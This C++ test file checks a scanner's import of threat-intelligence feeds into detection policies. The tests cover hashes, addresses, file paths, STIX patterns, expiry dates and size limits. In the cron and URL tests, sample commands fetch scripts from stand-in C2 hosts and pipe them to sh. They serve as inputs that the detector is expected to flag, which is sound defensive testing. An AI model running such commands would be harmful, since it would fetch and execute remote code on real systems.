// What an import writes: a policy that its author can review, and that the compiler takes.

#include "policies/compiler/import/write.h"

#include <functional>

#include "agent/scan/evaluate/matcher.h"
#include "policies/compiler/import/import.h"
#include "protocol/base/limits.h"
#include "protocol/codec/codec.h"
#include "tests/policies/sample.h"

namespace fleetsweep::indicators {
namespace {

using compiler::compile_text;
using compiler::test_now;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

const std::string kHash = crypto::sha256(as_bytes("harmless one")).hex();

std::vector<Indicator> read(Format format, const std::string& text, const std::string& source,
                            model::Platform platform = model::Platform::kLinux) {
  auto result = import_feed(
      format, text, {.source = source, .now = to_timestamp(test_now()), .platform = platform});
  FS_ASSERT(result.has_value());
  return std::move(result->indicators);
}

std::vector<Indicator> everything() {
  std::vector<Indicator> all;
  const auto add = [&](std::vector<Indicator> more) {
    std::move(more.begin(), more.end(), std::back_inserter(all));
  };
  add(read(Format::kLoki, kHash + ";it's # \"ours\"\n" + std::string(32, 'b') + ";Two\n",
           "hash-iocs.txt"));
  add(read(Format::kLoki,
           "# Droppers\n/tmp/\\.[a-z]{3}/dropper$;75;/tmp/\\.bak/\n/opt/it's\\.sh$;75\n",
           "filename-iocs.txt"));
  add(read(Format::kClamav,
           std::string(40, 'c') + ":68:Ours-1\n" + std::string(40, 'd') + ":99:Ours-2\n",
           "ours.hsb"));
  add(read(
      Format::kFeodo,
      "\"first_seen_utc\",\"dst_ip\",\"dst_port\",\"c2_status\",\"last_online\",\"malware\"\n"
      "\"2026-11-01 07:44:46\",\"198.51.100.7\",\"443\",\"online\",\"2026-11-20\",\"Example\"\n",
      "ipblocklist.csv"));
  add(read(Format::kPlain,
           "198.51.100.8\n203.0.113.0/24\n2001:db8::7\nc2.example.org\nhttp://c2.example.org/a\n"
           "/tmp/kdevtmpfsi\n",
           "list.txt"));
  add(read(Format::kStix,
           R"({"type":"bundle","objects":[{"type":"indicator","id":"indicator--7","confidence":83,
           "valid_from":"2026-01-01T00:00:00Z","pattern_type":"stix",
           "pattern":"[file:name = 'evil' AND file:size = 5] OR [file:name LIKE '%evil%' AND file:name LIKE '%robot%'] OR [process:command_line = 'evil --now']"}]})",
           "bundle.json"));
  return merged(std::move(all), 50);
}

PolicyHead head() {
  return {.title = "Family: it's ours",
          .family = "Ours",
          .author = "Example CERT",
          .license = "DRL-1.1",
          .issuer = "Example Org",
          .reference = "T-1",
          .sources = {"hash-iocs.txt", "ours.hsb"},
          .now = to_timestamp(test_now())};
}

compiler::Compiled compiled(const std::string& yaml) {
  const compiler::ReadFile none = [](const std::string&, std::size_t) -> Result<std::string> {
    return fail(Code::kNotFound, "no rule");
  };
  return compile_text(yaml, "imported.yaml", none, test_now());
}

// --- files of hashes -----------------------------------------------------------------------------

TEST(WritePolicy, AFileOfSoManyHashesIsWrittenOut) {
  std::string text;
  for (std::size_t i = 0; i <= limits::kImportIndicators; ++i)
    text += crypto::sha256(as_bytes(std::to_string(i))).hex() + fmt::format(":{}:x\n", i);
  EXPECT_FALSE(hash_file(text.substr(0, text.size() / 2), "half.hsb")) << "that is not so many";
  EXPECT_FALSE(hash_file(text + "evil.example\n", "mixed.txt")) << "that is something else too";
  text += std::string(40, 'a') + "\n" + std::string(40, 'b') + ":*:x\n";
  const auto file = hash_file(text, "main.hsb");
  ASSERT_TRUE(file);
  const PolicyHead head{.title = "T",
                        .family = "F",
                        .author = "A",
                        .issuer = "I",
                        .reference = "R",
                        .sources = {"main.hsb"},
                        .hash_files = {*file}};
  const WrittenPolicy written = write_policy({}, head);
  EXPECT_EQ(written.taken[static_cast<std::size_t>(Kind::kHash)], limits::kImportIndicators + 3);
  EXPECT_LT(written.yaml.size(), 4096u);
  const compiler::ReadFile read = [&](const std::string& path, std::size_t) -> Result<std::string> {
    EXPECT_EQ(path, "main.hsb");
    return text;
  };
  const auto compiled =
      compiler::compile_text(written.yaml, "imported.yaml", read, compiler::test_now());
  EXPECT_TRUE(compiled.ok()) << compiler::lint_text(compiled.diagnostics, written.yaml);
  const auto& selections = compiled.policy.detections.at(0).any_of;
  ASSERT_EQ(selections.size(), 2u);
  EXPECT_EQ(selections[0][0].field, model::Field::kFileSha256) << "sized: nothing else is needed";
  EXPECT_EQ(selections[1][0].field, model::Field::kFileSize) << "unsized: bounded by size";
}

TEST(ImportedPolicy, TheCompilerHasSomethingToSay) {
  const auto written = write_policy(everything(), head());
  EXPECT_THAT(written.not_taken, IsEmpty());
  // Nobody knows the sizes of the hashes in Loki's list.
  EXPECT_THAT(compiler::lines_of(compiled(written.yaml).diagnostics),
              testing::ElementsAre(HasSubstr("warning: 'c50_hash' would read about")))
      << written.yaml;
  EXPECT_EQ(written.taken[static_cast<std::size_t>(Kind::kHash)], 4u);
  EXPECT_EQ(written.taken[static_cast<std::size_t>(Kind::kAddress)], 4u);
  EXPECT_EQ(written.taken[static_cast<std::size_t>(Kind::kCombination)], 2u);
  EXPECT_EQ(write_policy(everything(), head()).yaml, written.yaml) << "not the same twice";
}

TEST(ImportedPolicy, AValueHasLostWhereItCameFrom) {
  const std::string yaml = write_policy(everything(), head()).yaml;
  EXPECT_THAT(yaml, HasSubstr("'" + kHash + "'  # hash-iocs.txt:1: it's # \"ours\"\n"));
  EXPECT_THAT(yaml, HasSubstr("'198.51.100.7'  # ipblocklist.csv:2: Example, online, last online "
                              "2026-11-20; from 2026-11-01; until 2026-12-20\n"));
  EXPECT_THAT(yaml, HasSubstr("filename-iocs.txt:2: Droppers; confidence 75"));
  EXPECT_THAT(yaml, HasSubstr("# bundle.json indicator--7; confidence 83"));
  EXPECT_THAT(yaml, HasSubstr("# Licence of the feeds: DRL-1.1\n"));
  EXPECT_THAT(yaml, HasSubstr("expires: 2026-12-20T00:00:00Z\n"));
}

TEST(ImportedPolicy, AnImportCleansByItself) {
  const auto policy = compiled(write_policy(everything(), head()).yaml).policy;
  ASSERT_FALSE(policy.responses.empty());
  for (const auto& response : policy.responses)
    for (const auto& action : response.actions) EXPECT_EQ(action.kind, model::ActionKind::kReport);
}

TEST(ImportedPolicy, NobodyWasAskedOnWhoseAuthority) {
  PolicyHead unsaid = head();
  unsaid.issuer = unsaid.reference = "TODO";
  const auto lines =
      compiler::lines_of(compiled(write_policy(everything(), unsaid).yaml).diagnostics);
  ASSERT_GE(lines.size(), 2u);
  EXPECT_THAT(lines[0], HasSubstr("error: 'issuer' still says TODO"));
  EXPECT_THAT(lines[1], HasSubstr("error: 'reference' still says TODO"));
}

TEST(ImportedPolicy, TheMatcherFindsAnotherThingThanTheFeedNamed) {
  const auto result = compiled(write_policy(everything(), head()).yaml);
  ASSERT_TRUE(result.ok());
  const auto matcher = scan::Matcher::compile(result.policy);
  ASSERT_TRUE(matcher) << matcher.error().message;
  // Which detections match, by id.
  const auto found = [&](const scan::Object& object) {
    constexpr model::ObjectKind kKinds[] = {model::ObjectKind::kFile, model::ObjectKind::kProcess,
                                            model::ObjectKind::kPersistence,
                                            model::ObjectKind::kNetworkTraffic};
    std::vector<std::string> ids;
    for (std::uint16_t d = 0; d < result.policy.detections.size(); ++d)
      if (result.policy.detections[d].object == kKinds[object.index()] &&
          matcher->match(d, object) == scan::Truth::kYes)
        ids.push_back(result.policy.detections[d].id);
    return ids;
  };
  const auto file = [](const std::string& path, std::uint64_t size = 1) {
    scan::FileFacts facts;
    facts.stage = scan::FileStage::kContent;
    facts.identity.path = path;
    facts.identity.size = size;
    return scan::Object(facts);
  };
  using testing::ElementsAre;
  EXPECT_THAT(found(file("/tmp/.abc/dropper")), ElementsAre("c75_file_2"));
  EXPECT_THAT(found(file("/tmp/.bak/dropper")), IsEmpty()) << "the false positive of the feed";
  EXPECT_THAT(found(file("/opt/it's.sh")), ElementsAre("c75_file"));
  EXPECT_THAT(found(file("/tmp/kdevtmpfsi")), ElementsAre("c50_file"));
  EXPECT_THAT(found(file("/srv/evil", 5)), ElementsAre("c80_file_name_all_of"));
  EXPECT_THAT(found(file("/srv/evil", 6)), IsEmpty());
  EXPECT_THAT(found(file("/srv/my-evil-robot")), ElementsAre("c80_file_name_all_of"));
  EXPECT_THAT(found(file("/srv/my-evil")), IsEmpty());
  const auto talks = [](const std::string& address, std::uint16_t port) {
    scan::ConnectionFacts facts;
    facts.identity.remote_address = address;
    facts.identity.remote_port = port;
    return scan::Object(facts);
  };
  EXPECT_THAT(found(talks("198.51.100.7", 443)), ElementsAre("c50_address"));
  EXPECT_THAT(found(talks("198.51.100.7", 80)), IsEmpty());
  EXPECT_THAT(found(talks("203.0.113.99", 80)), ElementsAre("c50_address"));
  EXPECT_THAT(found(talks("198.51.100.9", 80)), IsEmpty());
  scan::PersistenceFacts cron;
  cron.identity.kind = model::PersistenceKind::kCron;
  cron.identity.command = "curl -s https://a.c2.example.org/x | sh";
  EXPECT_THAT(found(scan::Object(cron)), ElementsAre("c50_domain_starts"));
  cron.identity.command = "curl -s https://notc2.example.org/x | sh";
  EXPECT_THAT(found(scan::Object(cron)), IsEmpty());
}

TEST(ImportedPolicy, APartOfAUrlIsFoundInThePathOfAFile) {
  const auto written = write_policy(read(Format::kStix,
                                         R"({"type":"indicator","pattern_type":"stix","pattern":)"
                                         R"("[url:value LIKE '%/cron.php' OR )"
                                         R"(url:value LIKE '%/gate.php?id=%' OR )"
                                         R"(url:value LIKE 'http://c2.example/%']"})",
                                         "bundle.json"),
                                    head());
  const auto result = compiled(written.yaml);
  ASSERT_TRUE(result.ok()) << compiler::lint_text(result.diagnostics, written.yaml);
  const auto matcher = scan::Matcher::compile(result.policy);
  ASSERT_TRUE(matcher) << matcher.error().message;
  const auto is_found = [&](const std::string& command) {
    scan::PersistenceFacts cron;
    cron.identity.kind = model::PersistenceKind::kCron;
    cron.identity.command = command;
    scan::ProcessFacts process;
    process.identity.command_line = command;
    bool starts = false, runs = false;
    for (std::uint16_t d = 0; d < result.policy.detections.size(); ++d)
      if (result.policy.detections[d].object == model::ObjectKind::kPersistence)
        starts = starts || matcher->match(d, scan::Object(cron)) == scan::Truth::kYes;
      else
        runs = runs || matcher->match(d, scan::Object(process)) == scan::Truth::kYes;
    EXPECT_EQ(starts, runs) << command;
    return starts;
  };
  for (const char* command :
       {"curl -s http://198.51.100.7/cron.php", "curl 'HTTPS://c3.example/x/Cron.php' -o /tmp/x",
        "sh -c \"$(curl http://c3.example/cron.php)\"", "curl http://c3.example/cron.php|sh",
        "wget http://c3.example/gate.php?id=7 -O -", "curl http://c2.example/anything"})
    EXPECT_TRUE(is_found(command)) << command << "\n" << written.yaml;
  for (const char* command :
       {"php -f /var/www/nextcloud/cron.php", "curl http://c3.example/cron.php5",
        "curl http://c3.example/ && php /var/www/cron.php", "php /srv/gate.php?id=7"})
    EXPECT_FALSE(is_found(command)) << command << "\n" << written.yaml;
}

TEST(ImportedPolicy, WhatAFeedSaysAboutWindowsIsNotFoundThere) {
  std::vector<Indicator> all;
  for (const auto& [format, source, text] :
       {std::tuple{Format::kStix, "bundle.json",
                   R"({"type":"indicator","pattern_type":"stix","pattern":)"
                   R"("[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\SOFTWARE\\\\Evil' AND )"
                   R"(windows-registry-key:values[*].data = 'C:\\\\evil.exe']"})"},
        {Format::kMisp, "misp.json",
         R"({"Attribute":[{"type":"filename","to_ids":true,"value":"C:\\Tools\\evil.exe"}]})"},
        {Format::kLoki, "filename-iocs.txt", R"(\\Temp\\evil[0-9]\.exe$;80)"}})
    for (Indicator& one : read(format, text, source, model::Platform::kWindows))
      all.push_back(std::move(one));
  PolicyHead windows = head();
  windows.platform = model::Platform::kWindows;
  const auto written = write_policy(all, windows);
  const auto result = compiled(written.yaml);
  ASSERT_TRUE(result.ok()) << compiler::lint_text(result.diagnostics, written.yaml);
  EXPECT_EQ(result.policy.platform, model::Platform::kWindows);
  const auto matcher = scan::Matcher::compile(result.policy);
  ASSERT_TRUE(matcher) << matcher.error().message;
  const auto is_found = [&](const scan::Object& object) {
    const auto kind = std::holds_alternative<scan::FileFacts>(object)
                          ? model::ObjectKind::kFile
                          : model::ObjectKind::kWindowsRegistryKey;
    for (std::uint16_t d = 0; d < result.policy.detections.size(); ++d)
      if (result.policy.detections[d].object == kind &&
          matcher->match(d, object) == scan::Truth::kYes)
        return true;
    return false;
  };
  const auto file = [](const std::string& path) {
    scan::FileFacts facts;
    facts.stage = scan::FileStage::kContent;
    facts.identity.path = "/disk";
    facts.aliases = {path};
    return scan::Object(facts);
  };
  EXPECT_TRUE(is_found(file(R"(c:\tools\EVIL.exe)"))) << written.yaml;
  EXPECT_FALSE(is_found(file(R"(D:\Tools\evil.exe)"))) << written.yaml;
  EXPECT_TRUE(is_found(file(R"(C:\Windows\Temp\evil7.exe)"))) << written.yaml;
  EXPECT_FALSE(is_found(file(R"(C:\Windows\Temp\evil.exe)"))) << written.yaml;
  scan::RegistryFacts value;
  value.spellings = {R"(HKEY_LOCAL_MACHINE\SOFTWARE\Evil)"};
  value.identity.data = R"(C:\evil.exe)";
  EXPECT_TRUE(is_found(scan::Object(value))) << written.yaml;
  value.identity.data = R"(C:\good.exe)";
  EXPECT_FALSE(is_found(scan::Object(value))) << written.yaml;
}

std::string of_file(const std::string& search, const std::string& condition,
                    const std::string& more, const std::string& content) {
  return "<IndicatorItem condition=\"" + condition + "\" " + more + "><Context search=\"FileItem/" +
         search + "\"/><Content>" + content + "</Content></IndicatorItem>";
}

constexpr const char* kNoCase = R"(preserve-case="false")";
constexpr const char* kWithCase = R"(preserve-case="true")";

// Of files with these paths those that the policy finds.
std::vector<std::string> found_files(const std::string& items,
                                     const std::vector<std::string>& paths) {
  const auto written = write_policy(merged(read(Format::kOpenioc,
                                                "<OpenIOC><criteria><Indicator operator=\"OR\">" +
                                                    items + "</Indicator></criteria></OpenIOC>",
                                                "ours.ioc"),
                                           50),
                                    head());
  const auto result = compiled(written.yaml);
  EXPECT_TRUE(result.ok()) << compiler::lint_text(result.diagnostics, written.yaml);
  const auto matcher = scan::Matcher::compile(result.policy);
  FS_ASSERT(matcher.has_value());
  std::vector<std::string> found;
  for (const std::string& path : paths) {
    scan::FileFacts facts;
    facts.stage = scan::FileStage::kContent;
    facts.identity.path = path;
    for (std::uint16_t d = 0; d < result.policy.detections.size(); ++d)
      if (matcher->match(d, scan::Object(facts)) == scan::Truth::kYes) {
        found.push_back(path);
        break;
      }
  }
  return found;
}

TEST(ImportedPolicy, ANameThatAFeedComparesWithoutCaseIsComparedWithIt) {
  const std::string items = of_file("FileName", "is", kNoCase, "Small.bin") +
                            of_file("FileName", "contains", "", "kdevtmp") +
                            of_file("FullPath", "is", kNoCase, "/opt/Dropper") +
                            of_file("FileName", "is", kWithCase, "Cased.bin") +
                            "<Indicator operator=\"AND\">" +
                            of_file("FilePath", "is", kNoCase, "/opt/Folder") +
                            of_file("FileName", "is", kNoCase, "Inside") + "</Indicator>";
  const std::vector<std::string> meant = {"/srv/SMALL.bin", "/srv/small.bin",     "/srv/xKdevTmpx",
                                          "/OPT/dropper",   "/opt/folder/INSIDE", "/srv/Cased.bin"};
  EXPECT_EQ(found_files(items, meant), meant);
  EXPECT_THAT(found_files(items, {"/srv/cased.bin", "/opt/folder/other", "/srv/small"}), IsEmpty());
}

TEST(ImportedPolicy, TheCaseOfANameIsTakenForThatOfItsFolder) {
  const auto inside = [](const char* folder_case, const char* name_case) {
    return "<Indicator operator=\"AND\">" + of_file("FilePath", "is", folder_case, "/opt/Folder") +
           of_file("FileName", "is", name_case, "Inside") + "</Indicator>";
  };
  const std::vector<std::string> paths = {"/opt/Folder/Inside", "/opt/Folder/INSIDE",
                                          "/opt/FOLDER/Inside", "/opt/FOLDER/INSIDE"};
  using testing::ElementsAre;
  EXPECT_THAT(found_files(inside(kWithCase, kNoCase), paths), ElementsAre(paths[0], paths[1]));
  EXPECT_THAT(found_files(inside(kNoCase, kWithCase), paths), ElementsAre(paths[0], paths[2]));
  EXPECT_THAT(found_files(inside(kWithCase, kWithCase), paths), ElementsAre(paths[0]));
  EXPECT_EQ(found_files(inside(kNoCase, kNoCase), paths), paths);
}

TEST(ImportedPolicy, OneIndicatorThatEndsEndsTheOthersOrNeverDoes) {
  const auto indicator = [](const std::string& pattern, const std::string& until) {
    return R"({"type":"indicator","id":"indicator--7","pattern_type":"stix",)" +
           (until.empty() ? "" : R"("valid_until":")" + until + R"(T00:00:00Z",)") +
           R"("pattern":"[)" + pattern + R"(]"})";
  };
  const auto hash = [](char digit) {
    return "file:hashes.'SHA-256' = '" + std::string(64, digit) + "'";
  };
  std::string objects = indicator(hash('a'), "");
  for (const auto& [pattern, until] :
       {std::pair{hash('b'), "2027-02-01"},
        {hash('c'), "2027-05-01"},
        {"file:name = 'until-february'", "2027-02-01"},
        {"file:name = 'until-may'", "2027-05-01"},
        {"file:name LIKE 'begins-like-this%'", "2027-02-01"},
        {"file:name = 'sized' AND file:size = 5", "2027-02-01"},
        {"file:name LIKE '%robot%' AND file:name LIKE '%evil%'", "2027-02-01"},
        {"file:name = 'always'", ""},
        {"ipv4-addr:value = '198.51.100.1' AND network-traffic:protocols[*] = 'tcp'",
         "2027-02-01"}})
    objects += "," + indicator(pattern, until);
  const auto written = write_policy(
      read(Format::kStix, R"({"type":"bundle","objects":[)" + objects + "]}", "b"), head());
  EXPECT_THAT(written.not_taken, IsEmpty());
  const auto result = compiled(written.yaml);
  ASSERT_TRUE(result.ok()) << compiler::lint_text(result.diagnostics, written.yaml);
  const auto found = [&](const scan::Object& object, const char* date) {
    const auto matcher =
        scan::Matcher::compile(result.policy, {}, *from_rfc3339(std::string(date) + "T00:00:00Z"));
    const auto kind = std::holds_alternative<scan::FileFacts>(object)
                          ? model::ObjectKind::kFile
                          : model::ObjectKind::kNetworkTraffic;
    for (std::uint16_t d = 0; d < result.policy.detections.size(); ++d)
      if (result.policy.detections[d].object == kind &&
          matcher->match(d, object) == scan::Truth::kYes)
        return true;
    return false;
  };
  const auto file = [](const std::string& name, char digit) {
    scan::FileFacts facts;
    facts.stage = scan::FileStage::kContent;
    facts.identity.path = "/srv/" + name;
    facts.identity.size = 5;
    facts.sha256 = std::string(64, digit);
    return scan::Object(facts);
  };
  scan::ConnectionFacts talk;
  talk.identity.remote_address = "198.51.100.1";
  talk.identity.protocol = "tcp";
  for (const auto& object :
       {file("x", 'b'), file("until-february", 'f'), file("begins-like-this-one", 'f'),
        file("sized", 'f'), file("evil-robot", 'f'), scan::Object(talk)}) {
    EXPECT_TRUE(found(object, "2027-01-15"));
    EXPECT_FALSE(found(object, "2027-03-15"));
  }
  for (const auto& object : {file("x", 'c'), file("until-may", 'f')}) {
    EXPECT_TRUE(found(object, "2027-03-15"));
    EXPECT_FALSE(found(object, "2027-06-15"));
  }
  for (const auto& object : {file("x", 'a'), file("always", 'f')})
    EXPECT_TRUE(found(object, "2030-01-01"));
}

TEST(ImportedPolicy, AHashWithAnExceptionWouldHashEveryFile) {
  const std::string md5 = "file:hashes.MD5 = '" + std::string(32, 'a') + "'";
  for (const std::string& more :
       {std::string("file:name != 'good.bin'"), std::string("file:size > 0"),
        std::string("file:size >= 1 AND file:name NOT LIKE 'good%'"),
        "file:hashes.'SHA-1' != '" + std::string(40, 'b') + "'",
        "file:hashes.'SHA-1' = '" + std::string(40, 'b') + "' AND file:name != 'good.bin'"}) {
    const auto indicators = read(Format::kStix,
                                 R"({"type":"indicator","pattern_type":"stix","pattern":"[)" + md5 +
                                     " AND " + more + R"(]","valid_until":"2027-02-01T00:00:00Z"})",
                                 "b.json");
    ASSERT_EQ(indicators.size(), 1u) << more;
    for (const char* scope : {"", "/opt"}) {
      PolicyHead with = head();
      if (*scope) with.scope = {scope};
      const std::string yaml = write_policy(indicators, with).yaml;
      const auto result = compiled(yaml);
      EXPECT_TRUE(result.ok()) << compiler::lint_text(result.diagnostics, yaml);
      ASSERT_EQ(result.policy.detections.size(), 1u) << more;
      EXPECT_EQ(result.policy.detections[0].scope.paths.empty(), !*scope) << yaml;
    }
  }
}

TEST(ImportedPolicy, HashesWithTheSameExceptionNeedADetectionEach) {
  std::string objects;
  for (int i = 0; i < 300; ++i)
    objects +=
        std::string(i ? "," : "") +
        R"({"type":"indicator","pattern_type":"stix","pattern":"[file:hashes.'SHA-256' = ')" +
        crypto::sha256(as_bytes(std::to_string(i))).hex() + R"(' AND file:name != 'good.bin']"})";
  const auto written = write_policy(
      read(Format::kStix, R"({"type":"bundle","objects":[)" + objects + "]}", "b"), head());
  EXPECT_THAT(written.not_taken, IsEmpty());
  const auto result = compiled(written.yaml);
  ASSERT_TRUE(result.ok()) << compiler::lint_text(result.diagnostics, written.yaml);
  ASSERT_EQ(result.policy.detections.size(), 1u);
  EXPECT_EQ(result.policy.detections[0].none_of.size(), 1u);
}

TEST(ImportedPolicy, AWholePathIsLookedForInTheScopeOfHashesOnly) {
  PolicyHead scoped = head();
  scoped.scope = {"/opt"};
  auto indicators = everything();
  for (Indicator& one :
       read(Format::kStix,
            R"({"type":"bundle","objects":[{"type":"indicator","pattern_type":"stix",
            "valid_from":"2026-01-01T00:00:00Z","pattern":"[file:hashes.MD5 = ')" +
                std::string(32, 'e') + "' AND file:hashes.'SHA-1' = '" + std::string(40, 'e') +
                R"(']"}]})",
            "bundle.json"))
    indicators.push_back(std::move(one));
  const auto result = compiled(write_policy(indicators, scoped).yaml);
  EXPECT_THAT(compiler::lines_of(result.diagnostics), IsEmpty());
  std::vector<std::string> with_scope;
  for (const auto& detection : result.policy.detections)
    if (detection.scope.paths == std::vector<std::string>{"/opt"})
      with_scope.push_back(detection.id);
  EXPECT_THAT(with_scope, testing::ElementsAre("c50_hash", "c50_hash_all_of"));
}

// Of two files: one alone would stay beside the policy, or be cut at kImportIndicators.
std::vector<Indicator> sixty_thousand(const std::function<std::string(int)>& line) {
  std::vector<Indicator> all;
  for (const int half : {0, 1}) {
    std::string text;
    for (int i = 0; i < 30'000; ++i) text += line(half * 30'000 + i) + "\n";
    if (half == 1) text += "198.51.100.7\n";
    for (Indicator& one : read(Format::kPlain, text, half == 0 ? "one.txt" : "two.txt"))
      all.push_back(std::move(one));
  }
  return all;
}

TEST(ImportedPolicy, ItIsLongerThanAnyCommandReads) {
  const auto written = write_policy(
      sixty_thousand([](int i) { return crypto::sha256(as_bytes(std::to_string(i))).hex(); }),
      head());
  EXPECT_LE(written.yaml.size(), limits::kPolicySourceBytes);
  EXPECT_TRUE(compiled(written.yaml).ok());
  EXPECT_EQ(written.taken[static_cast<std::size_t>(Kind::kAddress)], 1u) << "few, and valuable";
  const std::size_t hashes = written.taken[static_cast<std::size_t>(Kind::kHash)];
  EXPECT_GT(hashes, 30'000u);
  ASSERT_EQ(written.not_taken.size(), 1u);
  EXPECT_EQ(written.not_taken[0].origin.source, "two.txt");
  EXPECT_EQ(written.not_taken[0].origin.line, hashes - 30'000 + 1);
  EXPECT_EQ(written.not_taken[0].count, 60'000 - hashes);
  EXPECT_THAT(written.not_taken[0].why, HasSubstr("at most 3145728 bytes"));
}

TEST(ImportedPolicy, ItIsShortAndNobodyCanSignWhatIsMadeOfIt) {
  const auto written =
      write_policy(sixty_thousand([](int i) { return fmt::format("c{}.example", i); }), head());
  const auto result = compiled(written.yaml);
  ASSERT_TRUE(result.ok());
  EXPECT_LE(codec::encode(result.policy).size(), limits::kPolicyBytes);
  EXPECT_EQ(written.taken[static_cast<std::size_t>(Kind::kAddress)], 1u);
}

TEST(ImportedPolicy, MoreThanAPolicyHoldsIsLostInSilence) {
  std::vector<Indicator> many;
  for (int i = 0; i < 300; ++i) {
    Indicator one = single(Kind::kFilePath, model::Field::kFilePath, model::Match::kRegex,
                           fmt::format("/opt/evil{}$", i));
    one.none_of = {
        {model::Field::kFilePath, model::Match::kRegex, fmt::format("good{}", i), false}};
    one.origins = {{.source = "filename-iocs.txt", .line = static_cast<std::uint32_t>(i + 1)}};
    many.push_back(one);
  }
  const auto written = write_policy(many, head());
  EXPECT_EQ(written.taken[static_cast<std::size_t>(Kind::kFilePath)], 256u);
  ASSERT_EQ(written.not_taken.size(), 44u);
  EXPECT_THAT(written.not_taken[0].why, HasSubstr("at most 256 detections"));
  EXPECT_TRUE(compiled(written.yaml).ok());
}

}  // namespace
}  // namespace fleetsweep::indicators
